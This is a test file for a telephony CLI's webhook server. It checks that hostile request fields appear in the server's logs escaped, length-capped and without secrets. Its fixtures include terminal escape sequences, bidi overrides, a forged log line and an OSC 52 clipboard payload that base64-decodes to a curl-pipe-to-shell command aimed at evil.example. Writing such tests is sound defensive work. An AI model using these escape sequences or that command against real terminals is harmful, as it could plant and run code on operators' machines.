/**
 * `serve` as a process facing strangers: what they send reaches its stdout and stderr only
 * terminal-safe, length-capped and redacted (#16 items 3 and 7).
 */
import twilio from 'twilio';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isolatedEnv, startCli } from '../helpers/cli.js';

const ACCOUNT = 'AC' + '2e'.repeat(16);
const TOKEN = 'b7'.repeat(16);
const PUBLIC = 'https://hook-user:hook-pass-5678@bot.example.com';
const TITLE = '\u001b]0;pwned\u0007\u001b[31m';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
// What a terminal would obey, or that reorders what the operator reads.
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

for (const mode of ['plain', 'json'] as const) {
  describe(`serve output with hostile requests (${mode})`, () => {
    let server: Awaited<ReturnType<typeof startCli>>;
    let local: string;
    const { env, cwd } = isolatedEnv({
      TWILIO_ACCOUNT_SID: ACCOUNT,
      TWILIO_AUTH_TOKEN: TOKEN,
      OPENCLAW_TELEPHONY_PUBLIC_URL: PUBLIC,
      OPENCLAW_TELEPHONY_INBOUND_POLICY: 'open',
      OPENCLAW_TELEPHONY_ALLOW_FROM: '*',
      OPENCLAW_TELEPHONY_AGENT_KIND: 'echo',
      OPENCLAW_TELEPHONY_SANDBOX_URL: 'http://127.0.0.1:9',
    });
    beforeAll(async () => {
      server = await startCli(['serve', '--port', '0', '--no-dashboard', ...(mode === 'json' ? ['--json'] : [])], { env, cwd });
      local = mode === 'json' ? JSON.parse(server.firstLine).url : server.firstLine.replace(/^serve listening on /, '');
    });
    afterAll(() => server.stop());

    const post = (params: Record<string, string>, signed = false) => {
      const headers: Record<string, string> = { 'content-type': 'application/x-www-form-urlencoded' };
      if (signed) headers['x-twilio-signature'] = twilio.getExpectedTwilioSignature(TOKEN, `${PUBLIC}/telephony/webhook`, params);
      return fetch(`${local}/telephony/webhook`, { method: 'POST', headers, body: new URLSearchParams(params) });
    };
    const output = () => server.stdout() + server.stderr();
    const sms = (over: Record<string, string>) => ({ AccountSid: ACCOUNT, MessageSid: 'SM' + 'cd'.repeat(16), From: '+15550001111', To: '+15550002222', Body: 'hi', NumMedia: '0', ...over });

    it('an unsigned request with OSC title, OSC 52 and a newline in AccountSid writes no raw ESC/BEL and forges no line', async () => {
      const res = await post(sms({ AccountSid: `AC${TITLE}${CLIPBOARD}\n12:00:00 sms.in from=+15550009999 body=forged` }));
      expect(res.status).toBe(403);
      await expect.poll(() => output()).toContain('pwned');
      expect(output()).not.toMatch(RAW_CONTROL);
      expect(output().split('\n').some((line) => line.startsWith('12:00:00 sms.in'))).toBe(false);
      if (mode === 'json') for (const line of server.stderr().trim().split('\n')) expect(() => JSON.parse(line)).not.toThrow();
      else expect(server.stderr()).toContain('AC\\x1b]0;pwned\\x07\\x1b[31m\\x1b]52;c;');
    });

    it('a signed Body with ESC, C1 and U+202E reaches the sms.in/sms.out lines escaped', async () => {
      const res = await post(sms({ MessageSid: 'SM' + 'ce'.repeat(16), Body: `body${TITLE}\u009b2J\u202eevil` }), true);
      expect(res.status).toBe(200);
      await expect.poll(() => server.stderr()).toMatch(/sms\.out/);
      expect(output()).not.toMatch(RAW_CONTROL);
      expect(server.stderr()).toContain(mode === 'json' ? 'body\\u001b]0;pwned\\u0007\\u001b[31m\\u009b2J\\u202eevil' : 'body\\x1b]0;pwned\\x07\\x1b[31m\\x9b2J\\u202eevil');
    });

    it('an AccountSid holding the auth token does not print the token, and a 60 KB AccountSid gives a short line', async () => {
      await post(sms({ AccountSid: `AC-${TOKEN}-tail` }));
      await expect.poll(() => server.stderr()).toContain('-tail');
      expect(output()).not.toContain(TOKEN);
      const before = server.stderr().length;
      await post(sms({ AccountSid: 'AC' + 'f'.repeat(60_000) }));
      await expect.poll(() => server.stderr().length).toBeGreaterThan(before);
      const lines = server.stderr().slice(before).trim().split('\n');
      for (const line of lines) expect(line.length).toBeLessThan(2500);
    });

    it('never prints the userinfo of the public URL (banner, ready line, refusals)', async () => {
      await post(sms({ AccountSid: ACCOUNT }));
      await expect.poll(() => server.stderr()).toMatch(/webhook\.refused[^\n]*no X-Twilio-Signature/);
      expect(output()).toContain('bot.example.com');
      expect(output()).not.toContain('hook-pass-5678');
      expect(output()).not.toContain('hook-user');
    });
  });
}
